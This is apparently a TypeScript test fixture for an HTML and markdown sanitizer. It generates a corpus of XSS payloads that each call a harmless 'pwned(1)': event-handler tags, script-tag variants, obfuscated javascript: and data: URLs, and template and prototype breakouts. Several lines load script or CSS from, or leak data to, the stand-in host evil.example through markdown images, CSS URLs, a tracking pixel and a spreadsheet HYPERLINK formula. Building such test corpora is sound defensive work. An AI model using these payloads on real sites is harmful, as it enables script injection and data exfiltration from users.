/**
 * Ways to make a page run somebody else's code, built from tags × handlers × spellings. Each calls `pwned`, which the
 * tests listen for. Markdown has its own: links, images, autolinks and HTML between them.
 */
export const CORPUS: readonly string[] = [
  ...tagsWithHandlers(),
  ...scripts(),
  ...links(),
  ...markdown(),
  ...breakouts(),
];

function tagsWithHandlers(): string[] {
  const tags = [
    'img src=x onerror=CALL',
    'svg onload=CALL',
    'body onload=CALL',
    'iframe srcdoc="<script>CALL</script>"',
    'iframe src="javascript:CALL"',
    'input autofocus onfocus=CALL',
    'select autofocus onfocus=CALL',
    'textarea autofocus onfocus=CALL',
    'video src=x onerror=CALL',
    'video><source onerror=CALL',
    'audio src=x onerror=CALL',
    'details open ontoggle=CALL',
    'marquee onstart=CALL',
    'object data="javascript:CALL"',
    'embed src="javascript:CALL"',
    'form><button formaction="javascript:CALL"',
    'a href="javascript:CALL" autofocus onfocus=CALL',
    'div style="animation-name:x" onanimationstart=CALL',
    'svg><animate onbegin=CALL attributeName=x dur=1s',
    'svg><a href="javascript:CALL"><text y=20>x</text></a',
    'math href="javascript:CALL"',
    'link rel=stylesheet href="data:text/css,*{}" onload=CALL',
    'meta http-equiv=refresh content="0;url=javascript:CALL"',
    'base href="https://evil.example/"',
    'template><img src=x onerror=CALL',
    'dialog open onclose=CALL',
    'button popovertarget=x onclick=CALL',
    'x onpointerover=CALL style="position:fixed;inset:0"',
  ];
  const spellings: ((tag: string) => string)[] = [
    (tag) => `<${tag}>`,
    (tag) => `<${tag.toUpperCase()}>`,
    (tag) => `<${tag}/>`,
    (tag) => `< ${tag}>`,
    (tag) => `<${tag.replaceAll(' ', '/')}>`,
    (tag) => `"><${tag}>`,
    (tag) => `'><${tag}>`,
    (tag) => `</title></style></textarea><${tag}>`,
  ];
  return tags.flatMap((tag) => spellings.map((spell) => spell(called(tag))));
}

function scripts(): string[] {
  return [
    '<script>CALL</script>',
    '<SCRIPT>CALL</SCRIPT>',
    '<script src="https://evil.example/x.js"></script>',
    '<script src="data:text/javascript,CALL"></script>',
    '<scr<script>ipt>CALL</scr</script>ipt>',
    '<script\n>CALL</script\n>',
    '<script>/*</script>CALL//',
    '<svg><script>CALL</script></svg>',
    '<noscript><p title="</noscript><img src=x onerror=CALL>">',
    '<!--><script>CALL</script-->',
    '<![CDATA[<script>CALL</script>]]>',
    '<style>@import "https://evil.example/x.css";</style>',
    '<style>*{background:url(https://evil.example/leak)}</style>',
  ].map(called);
}

function links(): string[] {
  const schemes = [
    'javascript:CALL',
    'JaVaScRiPt:CALL',
    'java\tscript:CALL',
    'java\nscript:CALL',
    ' javascript:CALL',
    '\u0001javascript:CALL',
    'javascript&colon;CALL',
    'javascript&#58;CALL',
    'vbscript:CALL',
    'data:text/html,<script>CALL</script>',
    'data:text/html;base64,PHNjcmlwdD5wd25lZCgxKTwvc2NyaXB0Pg==',
    'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="CALL"/>',
  ];
  return schemes
    .map(called)
    .flatMap((scheme) => [
      `[click](${scheme})`,
      `[click](<${scheme}>)`,
      `![picture](${scheme})`,
      `<${scheme}>`,
      `<a href="${scheme}">x</a>`,
    ]);
}

function markdown(): string[] {
  return [
    '![leak](https://evil.example/leak.png)',
    '![leak](//evil.example/leak.png)',
    '[x]: javascript:CALL\n[click][x]',
    '![x][y]\n\n[y]: https://evil.example/leak.png "title"',
    '<https://evil.example/autolink>',
    '| a | b |\n|---|---|\n| <img src=x onerror=CALL> | [x](javascript:CALL) |',
    '```html\n<script>CALL</script>\n```',
    '`<img src=x onerror=CALL>`',
    '- [ ] <img src=x onerror=CALL>',
    '[^1]\n\n[^1]: <img src=x onerror=CALL>',
    '<details><summary>x</summary><img src=x onerror=CALL></details>',
    '**<img src=x onerror=CALL>**',
    '# <img src=x onerror=CALL>',
    '> <img src=x onerror=CALL>',
    '[a](javascript:CALL "title")',
    '<img src="https://evil.example/pixel.gif" width=1>',
  ].map(called);
}

function breakouts(): string[] {
  return [
    '${CALL}',
    '{{CALL}}',
    '{{constructor.constructor("CALL")()}}',
    '#{CALL}',
    '<%= CALL %>',
    "'-CALL-'",
    '"-CALL-"',
    '\\"-CALL//',
    '</script><script>CALL</script>',
    '\u2028CALL',
    '__proto__',
    'constructor',
    '\u202Etxt.exe',
    '=HYPERLINK("https://evil.example","x")',
  ].map(called);
}

function called(text: string): string {
  return text.replaceAll('CALL', 'pwned(1)');
}
